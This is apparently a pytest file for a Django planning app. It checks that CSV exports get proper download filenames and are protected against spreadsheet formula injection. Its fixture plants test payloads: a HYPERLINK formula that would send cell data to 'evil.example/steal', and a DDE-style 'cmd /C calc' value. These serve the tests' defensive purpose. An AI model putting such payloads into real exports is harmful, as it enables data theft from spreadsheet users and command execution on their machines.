"""Every CSV download: saved under its own name (`<train>-<pi>-board.csv`, `<train>-<chart>-<day>.csv`,
...) with a Content-Disposition that browsers read (RFC 6266: quoted, `filename*` when the name
is not ASCII), and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.db import transaction

from art.http import attachment_disposition, csv_response, download_filename, spreadsheet_safe
from tests.role_matrix import build_world, client_for
from tests.test_role_matrix_exports import EXPORTS, downloads
from tests.test_role_matrix_pages import path_of, url_patterns

INJECTED = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click me")'


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        w = build_world()
        # given a feature and a team whose names are formulas, and a PI with a space and an umlaut
        w["feature"].title = INJECTED
        w["feature"].save(update_fields=["title"])
        w.team.name = "@SUM(1+1)*cmd|' /C calc'!A0"
        w.team.save(update_fields=["name"])
        w.pi.name = "PI Zürich 1"
        w.pi.save(update_fields=["name"])
        yield w
        transaction.set_rollback(True)


def test_every_csv_url_is_in_the_exports_table():
    csv_urls = {key for key, route in url_patterns().items() if "csv" in key or "csv" in route}
    assert csv_urls == {key for key in EXPORTS if key.endswith("csv")}


@pytest.mark.django_db
def test_every_csv_download_is_named_and_spreadsheet_safe(world):
    seen_injected = []
    cases = [(key, value) for key, value in downloads(world) if key.endswith("csv")]
    assert len(cases) >= 3
    client = client_for(world, "rte")
    for key, value in cases:
        # when the RTE downloads it
        response = client.get(path_of(world, key, EXPORTS[key], value))
        assert response.status_code == 200, key
        assert response["Content-Type"].startswith("text/csv")
        # then it is saved under a name starting with the train's slug, never as export.csv
        disposition = response["Content-Disposition"]
        match = re.fullmatch(r'attachment; filename="([^"\\]+)"(; filename\*=UTF-8\'\'(\S+))?', disposition)
        assert match, f"{key}: {disposition}"
        assert match.group(1).startswith(f"{world.train.slug}-") and match.group(1).endswith(".csv")
        # and no text cell starts with a formula's first character
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), f"{key}: {cell!r}"
                assert not (cell.startswith("-") and not _number(cell)), f"{key}: {cell!r}"
                if INJECTED in cell or "@SUM(1+1)" in cell:
                    assert cell.startswith("'"), f"{key}: {cell!r}"
                    seen_injected.append(key)
    assert "pi_planning:board_csv" in seen_injected


@pytest.mark.django_db
def test_the_board_csv_is_named_after_the_train_and_the_pi(world):
    response = client_for(world, "member").get(
        path_of(world, "pi_planning:board_csv", EXPORTS["pi_planning:board_csv"])
    )
    assert response["Content-Disposition"] == (
        f'attachment; filename="{world.train.slug}-PI-Z_rich-1-board.csv"; '
        f"filename*=UTF-8''{world.train.slug}-PI-Z%C3%BCrich-1-board.csv"
    )


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_file_names_fold_spaces_and_characters_no_file_system_takes():
    assert download_filename("payments-art", "PI 2026.1", "board", extension="csv") == (
        "payments-art-PI-2026.1-board.csv"
    )
    assert download_filename("a/b", 'c:"d"', "  ", extension="md") == "a-b-c-d.md"
    assert download_filename("", extension="csv") == "download.csv"


def test_the_disposition_quotes_ascii_names_and_adds_filename_star_for_others():
    assert attachment_disposition("payments-art-PI-1-board.csv") == (
        'attachment; filename="payments-art-PI-1-board.csv"'
    )
    assert attachment_disposition("zürich.csv") == (
        "attachment; filename=\"z_rich.csv\"; filename*=UTF-8''z%C3%BCrich.csv"
    )


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+41 79", "'+41 79"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        (-3, -3),
        (2.5, 2.5),
        (None, ""),
    ],
)
def test_text_starting_like_a_formula_is_prefixed_and_numbers_stay_numbers(cell, written):
    assert spreadsheet_safe(cell) == written


def test_csv_response_neutralises_the_header_too():
    response = csv_response("x.csv", ["=a", "b"], [[-1, "-1"]])
    assert response.content.decode().splitlines() == ["'=a,b", "-1,'-1"]
